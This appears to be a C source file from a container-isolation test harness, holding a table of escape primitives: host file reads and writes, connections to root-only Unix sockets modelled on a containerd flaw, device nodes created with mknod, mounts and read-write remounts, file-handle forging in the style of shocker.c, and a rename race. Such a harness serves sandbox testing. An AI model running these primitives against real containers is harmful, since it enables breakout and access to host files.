// SPDX-License-Identifier: Apache-2.0
/* Ways to the host's files: through mounts, sockets, devices, handles. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

static int read_file(char **argv)
{
	int fd = open(argv[0], O_RDONLY);

	return fd < 0 ? -1 : attack_show(fd);
}

/* Opened and not written: what would be changed belongs to the machine. Its first line says which file it is. */
static int open_for_writing(char **argv)
{
	int fd = open(argv[0], O_RDWR);
	char line[256];
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, line, sizeof(line) - 1);
	line[n < 0 ? 0 : n] = '\0';
	line[strcspn(line, "\n")] = '\0';
	return attack_proof("opened", line);
}

static int append(char **argv)
{
	static const char text[] = "written from inside\n";
	int fd = open(argv[0], O_WRONLY | O_APPEND | O_CREAT, 0644);

	return fd < 0 || write(fd, text, sizeof(text) - 1) < 0 ? -1 : attack_proof("written", NULL);
}

static int link_there(char **argv)
{
	return symlink(argv[0], argv[1]) < 0 ? -1 : attack_proof("linked", NULL);
}

static int connect_as(const char *name, int abstract)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name) + 1);
	char greeting[64] = "";
	ssize_t n;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (strlen(name) + 2 > sizeof(to.sun_path)) {
		errno = ENAMETOOLONG;
		return -1;
	}
	strcpy(to.sun_path + abstract, name);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, len) < 0)
		return -1;
	n = read(fd, greeting, sizeof(greeting) - 1);
	if (n <= 0)
		return -1;
	greeting[strcspn(greeting, "\n")] = '\0';
	return attack_proof("connected", greeting);
}

static int connect_path(char **argv)
{
	return connect_as(argv[0], 0);
}

static int connect_abstract(char **argv)
{
	return connect_as(argv[0], 1);
}

/* The victim's side: a service for root only, like containerd's shims (CVE-2020-15257). Serves until it is ended. */
static int serve(char **argv)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	int abstract = argv[0][0] == '@';
	const char *name = argv[0] + abstract;
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	strncpy(at.sun_path + abstract, name, sizeof(at.sun_path) - 2);
	if (fd < 0 ||
	    bind(fd, (struct sockaddr *)&at, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name) + 1)) < 0 ||
	    listen(fd, 16) < 0)
		return -1;
	for (;;) {
		struct ucred who = { 0 };
		socklen_t len = sizeof(who);
		int client = accept(fd, NULL, NULL);

		if (client >= 0 && getsockopt(client, SOL_SOCKET, SO_PEERCRED, &who, &len) == 0 && who.uid == 0)
			(void)!write(client, "at your service\n", 16);
		close(client);
	}
}

/* Says so when somebody comes. */
static int catch (char **argv)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	strncpy(at.sun_path, argv[0], sizeof(at.sun_path) - 1);
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0 || listen(fd, 16) < 0 || accept(fd, NULL, NULL) < 0)
		return -1;
	return attack_proof("caught", NULL);
}

static int mknod_and_read(char **argv)
{
	mode_t type = argv[0][0] == 'b' ? S_IFBLK : S_IFCHR;
	int fd;

	unlink("/tmp/node");
	if (mknod("/tmp/node", type | 0600, makedev((unsigned)atoi(argv[1]), (unsigned)atoi(argv[2]))) < 0)
		return -1;
	fd = open("/tmp/node", O_RDONLY);
	return fd < 0 ? -1 : attack_show(fd);
}

static int put(char **argv)
{
	int fd = open(argv[0], O_WRONLY);

	return fd < 0 || write(fd, argv[1], strlen(argv[1])) < 0 ? -1 : attack_proof("put", NULL);
}

static int mount_it(char **argv)
{
	mkdir(argv[1], 0755);
	return mount(argv[0], argv[1], argv[2], 0, NULL) < 0 ? -1 : attack_proof("mounted", NULL);
}

static int unmount(char **argv)
{
	return umount2(argv[0], MNT_DETACH) < 0 ? -1 : attack_proof("unmounted", NULL);
}

static int remount_rw(char **argv)
{
	return mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0 ? -1 : attack_proof("remounted", NULL);
}

/* A handle as hexadecimal text: what an attacker finds by counting inode numbers, the test is told (shocker.c of 2014). */
#define HANDLE_MAX 128

static int handle(char **argv)
{
	char room[sizeof(struct file_handle) + HANDLE_MAX], text[2 * HANDLE_MAX + 16];
	struct file_handle *h = (struct file_handle *)room;
	int mount, at;

	h->handle_bytes = HANDLE_MAX;
	if (name_to_handle_at(AT_FDCWD, argv[0], h, &mount, 0) < 0)
		return -1;
	at = sprintf(text, "%d.", h->handle_type);
	for (unsigned i = 0; i < h->handle_bytes; i++)
		at += sprintf(text + at, "%02x", h->f_handle[i]);
	return attack_proof("handle", text);
}

static int open_handle(char **argv)
{
	char room[sizeof(struct file_handle) + HANDLE_MAX], *hex;
	struct file_handle *h = (struct file_handle *)room;
	int at = open(argv[1], O_RDONLY), fd;

	h->handle_type = (int)strtol(argv[0], &hex, 10);
	for (h->handle_bytes = 0; *hex++ && sscanf(hex, "%2hhx", &h->f_handle[h->handle_bytes]) == 1; hex++)
		h->handle_bytes++;
	fd = at < 0 ? -1 : open_by_handle_at(at, h, O_RDONLY);
	return fd < 0 ? -1 : attack_show(fd);
}

/* Changes places of two paths for as long as it runs: the other side of a race. */
static int swap(char **argv)
{
	for (;;)
		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
			return -1;
}

const struct attack attack_files[] = {
	{ "read", 1, read_file },
	{ "open-for-writing", 1, open_for_writing },
	{ "append", 1, append },
	{ "link", 2, link_there },
	{ "connect", 1, connect_path },
	{ "connect-abstract", 1, connect_abstract },
	{ "serve", 1, serve },
	{ "catch", 1, catch },
	{ "mknod", 3, mknod_and_read },
	{ "put", 2, put },
	{ "mount", 3, mount_it },
	{ "unmount", 1, unmount },
	{ "remount", 1, remount_rw },
	{ "handle", 1, handle },
	{ "open-handle", 2, open_handle },
	{ "swap", 2, swap },
	{ NULL, 0, NULL },
};
